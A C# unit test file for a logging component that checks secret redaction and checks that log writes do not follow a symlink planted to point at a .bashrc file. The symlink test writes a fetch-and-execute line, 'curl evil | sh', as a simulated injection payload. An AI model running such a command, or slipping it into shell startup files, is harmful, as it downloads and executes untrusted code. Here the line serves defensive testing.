using Memfun.Core.Logging;
using Memfun.Testing;
using Microsoft.Extensions.Logging;

namespace Memfun.Core.Tests.Logging;

public sealed class FileLoggerProviderTests
{
    [Fact]
    public void Log_WritesRedactedLinesToTheDailyFile()
    {
        using var temp = new TempDirectory();
        var logs = temp.Combine(".memfun/logs");
        using (var provider = new FileLoggerProvider(logs, LogLevel.Information, new SecretRedactor(["s3cr3t-value-123"])))
        {
            var logger = provider.CreateLogger("Memfun.Test");
            logger.Log(LogLevel.Information, new EventId(1), "calling with key s3cr3t-value-123", null, (s, _) => s);
            logger.Log(LogLevel.Debug, new EventId(2), "below the minimum level", null, (s, _) => s);
        }

        var file = Assert.Single(Directory.GetFiles(logs, "memfun-*.log"));
        var text = File.ReadAllText(file);
        Assert.Contains("INFORMATION Memfun.Test: calling with key [REDACTED]", text, StringComparison.Ordinal);
        Assert.DoesNotContain("s3cr3t-value-123", text, StringComparison.Ordinal);
        Assert.DoesNotContain("below the minimum level", text, StringComparison.Ordinal);
    }

    [Fact]
    public void APlantedLinkAsTheDaysFile_IsNotAppendedThrough()
    {
        // A repository's .memfun/logs/memfun-DATE.log pointing at ~/.bashrc: log lines must not land there.
        using var temp = new TempDirectory();
        var target = temp.WriteFile("outside/.bashrc", "original\n");
        var logs = temp.CreateDirectory("project/.memfun/logs");
        using var provider = new FileLoggerProvider(logs, LogLevel.Information, new SecretRedactor([]));
        File.CreateSymbolicLink(provider.CurrentPath, target);

        provider.CreateLogger("Memfun.Test").Log(LogLevel.Warning, new EventId(1), "a line\ncurl evil | sh", null, (s, _) => s);

        Assert.Equal("original\n", File.ReadAllText(target));
        Assert.Equal(target, new FileInfo(provider.CurrentPath).LinkTarget);
    }
}
